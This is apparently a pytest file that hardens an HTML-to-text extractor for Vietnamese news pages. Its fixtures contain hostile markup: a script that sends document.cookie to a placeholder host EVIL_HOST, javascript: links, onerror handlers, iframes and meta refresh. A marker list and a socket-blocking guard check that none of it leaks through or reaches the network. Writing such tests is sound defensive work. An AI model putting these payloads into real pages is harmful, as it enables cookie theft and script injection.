"""Hostile HTML through the batch/readers path (issue 10).

Pages with scripts, styles, iframes, ``javascript:`` links, event handlers, huge inline base64
images and malformed markup: the extracted text contains none of their code, the article's
facts are still found, and nothing is fetched from the network.

Network is checked two ways: in-process, ``socket`` connect/DNS are monkeypatched to raise
(and record the attempt); for the CLI and its worker processes (forkserver/spawn, which do not
inherit a monkeypatch), a ``sitecustomize.py`` on ``PYTHONPATH`` does the same in every
Python process and appends each attempt to a file the test reads.
"""
from __future__ import annotations

import base64
import gzip
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

import cchc_extract as cx
from cchc_extract.models import Article

from conftest import ROOT, check_article

try:
    import cchc_extract.batch as batch  # noqa: F401
    from cchc_extract.readers import html_to_text
    HAVE_BATCH = True
except ImportError:  # pragma: no cover - the batch module is written in parallel
    HAVE_BATCH = False

needs_batch = pytest.mark.skipif(not HAVE_BATCH, reason="cchc_extract.batch is not there yet")

BODY = ("<p>Tỷ lệ hồ sơ giải quyết đúng hạn của tỉnh Thái Nguyên đạt 99,82% trong năm 2020, "
        "theo Quyết định số 411/QĐ-TTg của Thủ tướng Chính phủ về cải cách hành chính.</p>\n"
        "<p>Tỉnh Lạng Sơn xếp thứ 6/63 về Chỉ số cải cách hành chính năm 2020, tăng 10 bậc so "
        "với năm trước đó, nhờ đẩy mạnh dịch vụ công trực tuyến mức độ 3 và 4.</p>\n")
EXPECT = {("percentage", "99,82%"), ("legal_ref", "411/QĐ-TTg")}
"""(type, key) pairs every hostile page must still yield: key = legal number, else the text."""


def keys(facts) -> set:
    out = set()
    for f in facts:
        f = f if isinstance(f, dict) else f.model_dump()
        out.add((f["type"], f.get("number") or f["text"]))
    return out

# every marker is code or markup that must never reach the text
MARKERS = ["SCRIPT_CODE", "STYLE_CODE", "IFRAME_TEXT", "JSLINK", "ONERROR", "ONCLICK", "NOSCRIPT_CODE",
           "SVG_SCRIPT", "TEMPLATE_CODE", "OBJECT_CODE", "javascript:", "<script", "</script",
           "<style", "<iframe", "base64", "iVBORw0KGgo", "alert(", "document.cookie", "eval(",
           "EVIL_HOST", "data:image", "CDATA_CODE", "COMMENT_CODE", "JSON_LD_CODE"]

PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
BIG_B64 = base64.b64encode(os.urandom(3_000_000)).decode()  # a 4 MB inline "image"


def page(body_extra: str = "", head_extra: str = "") -> str:
    return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>Thái Nguyên: CCHC</title>"
            "<script>var SCRIPT_CODE = document.cookie; fetch('http://EVIL_HOST/x?c='+SCRIPT_CODE);</script>"
            "<style>body{background:url(http://EVIL_HOST/bg.png)} .STYLE_CODE{}</style>"
            "<script type='application/ld+json'>{\"JSON_LD_CODE\": 1}</script>"
            "<link rel='stylesheet' href='http://EVIL_HOST/s.css'>" + head_extra + "</head><body>"
            "<article><h1>Thái Nguyên đứng đầu về cải cách hành chính</h1>" + BODY + body_extra +
            "</article><script>eval('SCRIPT_CODE')</script></body></html>")


HOSTILE = {
    "scripts and styles": page(),
    "iframe": page("<iframe src='http://EVIL_HOST/'>IFRAME_TEXT</iframe>"
                   "<iframe srcdoc=\"<script>alert('IFRAME_TEXT')</script>\"></iframe>"),
    "javascript links": page("<p>Xem <a href=\"javascript:alert('JSLINK')\">chi tiết</a> và "
                             "<a href='JaVaScRiPt:eval(JSLINK)' onclick=\"ONCLICK()\">đây</a>.</p>"),
    "event handlers": page(f"<img src='data:image/png;base64,{PNG_1PX}' onerror=\"alert('ONERROR')\">"
                           "<body onload=\"alert('ONERROR')\"><div onmouseover='ONCLICK()'>Hà Nội</div>"),
    "huge inline base64 image": page(f"<p><img alt='ảnh' src='data:image/png;base64,{BIG_B64}'></p>"),
    "base64 in css": page(head_extra=f"<style>.x{{background:url(data:image/png;base64,{BIG_B64[:200_000]})}}</style>"),
    "noscript / template / object / svg": page(
        "<noscript><img src='http://EVIL_HOST/p.gif'>NOSCRIPT_CODE</noscript>"
        "<template><script>TEMPLATE_CODE</script></template>"
        "<object data='http://EVIL_HOST/x.swf'>OBJECT_CODE</object><embed src='http://EVIL_HOST/e'>"
        "<svg><script>SVG_SCRIPT</script><a xlink:href='javascript:alert(1)'>x</a></svg>"),
    "comments and CDATA": page("<!-- <script>COMMENT_CODE</script> --><![CDATA[ CDATA_CODE ]]>"
                               "<!--[if IE]><script>COMMENT_CODE</script><![endif]-->"),
    "malformed: unclosed tags": page("<div><p>Nội dung <b>đậm <i>nghiêng <script>alert('SCRIPT_CODE')"),
    "malformed: broken script end": page("<script>var a = '</scr' + 'ipt>'; SCRIPT_CODE()</script >"
                                         "<SCRIPT SRC=http://EVIL_HOST/x.js>SCRIPT_CODE</SCRIPT>"
                                         "<script\n type=module\n>import('SCRIPT_CODE')</script\n>"),
    "malformed: attribute soup": page("<p class=\"a\" \"\" =b data-x='<script>SCRIPT_CODE</script>'>"
                                      "Chi tiết</p><a href=javascript:alert(JSLINK)>x</a><p <p>"),
    "meta refresh and base": page(head_extra="<meta http-equiv='refresh' content='0;url=http://EVIL_HOST/'>"
                                              "<base href='http://EVIL_HOST/'>"),
    "NUL and control bytes": page("<p>\x00\x01\x02 NUL ở giữa \x0b\x0c</p>"),
}


def assert_clean(text: str, where: str) -> None:
    for m in MARKERS:
        assert m.lower() not in text.lower(), f"{m!r} leaked into the {where}: …{text[max(0, text.lower().find(m.lower()) - 60):][:160]}…"


# ------------------------------------------------------------------ no network

class NetworkAttempt(AssertionError):
    pass


@pytest.fixture
def no_network(monkeypatch):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise NetworkAttempt(f"network access attempted: {args!r}")

    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex

    def connect(self, address):  # local (AF_UNIX) sockets are multiprocessing's, not network
        if self.family == getattr(socket, "AF_UNIX", None):
            return real_connect(self, address)
        return refuse(self, address)

    def connect_ex(self, address):
        if self.family == getattr(socket, "AF_UNIX", None):
            return real_connect_ex(self, address)
        return refuse(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    yield attempts
    assert not attempts, f"network access attempted: {attempts}"


SITECUSTOMIZE = '''
import os, socket
_LOG = os.environ["CCHC_NET_LOG"]
def _refuse(*args, **kwargs):
    with open(_LOG, "a") as f:
        f.write(repr(args) + "\\n")
    raise OSError("network access is forbidden in this test")
_real_connect, _real_connect_ex = socket.socket.connect, socket.socket.connect_ex
def _connect(self, address):   # AF_UNIX: multiprocessing's forkserver, not the network
    if self.family == socket.AF_UNIX:
        return _real_connect(self, address)
    return _refuse(self, address)
def _connect_ex(self, address):
    if self.family == socket.AF_UNIX:
        return _real_connect_ex(self, address)
    return _refuse(self, address)
socket.socket.connect = _connect
socket.socket.connect_ex = _connect_ex
socket.create_connection = _refuse
socket.getaddrinfo = _refuse
'''


def offline_env(tmp_path: Path) -> tuple[dict, Path]:
    site = tmp_path / "offline_site"
    site.mkdir(exist_ok=True)
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE)
    log = tmp_path / "net.log"
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(site), str(ROOT / "src"), env.get("PYTHONPATH", "")])
    env["CCHC_NET_LOG"] = str(log)
    return env, log


# ------------------------------------------------------------------ readers: html → text

@needs_batch
@pytest.mark.parametrize("name", list(HOSTILE))
def test_html_to_text_drops_code(name, no_network):
    h = html_to_text(HOSTILE[name].encode("utf-8"))
    assert_clean(h.text, f"text ({h.extractor})")
    assert "99,82%" in h.text and "411/QĐ-TTg" in h.text
    art = check_article(cx.extract(h.text, title=h.title))
    assert_clean(art.text, "article text")
    assert EXPECT <= keys(art.facts)


@needs_batch
@pytest.mark.parametrize("name", list(HOSTILE))
def test_fallback_html_dump_drops_code(name, monkeypatch, no_network):
    """The standard-library fallback (used when trafilatura is missing or finds nothing)."""
    from cchc_extract import readers

    monkeypatch.setitem(readers._traf_state, "mod", None)
    h = html_to_text(HOSTILE[name])
    assert h.extractor == "html-fallback"
    assert_clean(h.text, "fallback text")
    assert "99,82%" in h.text


@needs_batch
def test_huge_base64_image_gives_clean_text(no_network):
    html = HOSTILE["huge inline base64 image"]
    assert len(html) > 4_000_000
    h = html_to_text(html.encode("utf-8"))
    assert_clean(h.text, "text")


@needs_batch
def test_html_page_that_is_only_script_is_not_an_article_of_code(no_network):
    html = "<html><body><script>" + "SCRIPT_CODE();" * 10_000 + "</script></body></html>"
    h = html_to_text(html)
    assert_clean(h.text, "text")
    rec = cx.extract(h.text) if h.text.strip() else None
    assert rec is None or not isinstance(rec, Article) or not rec.text.strip()


@needs_batch
def test_html_given_as_text_file_is_not_run_but_text(no_network):
    """HTML inside a .txt page (a crawl artefact) is text: its tags may show, never run; the
    extracted facts still satisfy the invariants."""
    art = check_article(cx.extract(HOSTILE["scripts and styles"]))
    assert EXPECT <= keys(art.facts)


# ------------------------------------------------------------------ batch: files → JSONL

def _write_pages(d: Path) -> list[str]:
    d.mkdir(parents=True, exist_ok=True)
    names = []
    for i, (name, html) in enumerate(HOSTILE.items()):
        p = d / f"page{i:02d}.html"
        p.write_text(html, encoding="utf-8")
        names.append(p.stem)
    (d / "zipped.html.gz").write_bytes(gzip.compress(HOSTILE["iframe"].encode("utf-8")))
    (d / "pages.jsonl").write_text("\n".join(json.dumps({"id": f"j{i}", "html": h}, ensure_ascii=False)
                                             for i, h in enumerate(list(HOSTILE.values())[:4])) + "\n",
                                   encoding="utf-8")
    return names + ["zipped"] + [f"j{i}" for i in range(4)]


@needs_batch
def test_batch_api_in_process_on_hostile_pages(tmp_path, no_network):
    from cchc_extract.batch import extract_many

    ids = _write_pages(tmp_path / "in")
    results = list(extract_many([str(tmp_path / "in")], workers=0))
    assert sorted(r.doc_id for r in results) == sorted(ids)
    for r in results:
        assert isinstance(r, Article), r
        check_article(r)
        assert_clean(r.text, f"text of {r.doc_id}")
        assert_clean(r.title or "", f"title of {r.doc_id}")
        assert EXPECT <= keys(r.facts), r.doc_id


@needs_batch
def test_batch_cli_on_hostile_pages_offline(tmp_path):
    ids = _write_pages(tmp_path / "in")
    env, log = offline_env(tmp_path)
    out = tmp_path / "out.jsonl"
    p = subprocess.run([sys.executable, "-m", "cchc_extract", "batch", str(tmp_path / "in"), "-o", str(out),
                        "--workers", "2", "--timeout", "60"], env=env, capture_output=True, text=True,
                       timeout=180)
    assert p.returncode == 0, p.stderr
    assert not log.exists(), f"network access attempted: {log.read_text()}"
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert sorted(r["doc_id"] for r in rows) == sorted(ids)
    for r in rows:
        assert "error" not in r, r
        assert_clean(r["text"], f"text of {r['doc_id']}")
        assert EXPECT <= keys(r["facts"]), r["doc_id"]


@needs_batch
def test_offline_guard_works(tmp_path):
    """The sitecustomize guard itself: a connect in a child process is refused and logged."""
    env, log = offline_env(tmp_path)
    code = "import urllib.request\ntry:\n urllib.request.urlopen('http://example.com', timeout=2)\nexcept Exception as e:\n print(type(e).__name__)"
    subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
    assert log.exists() and log.read_text().strip()
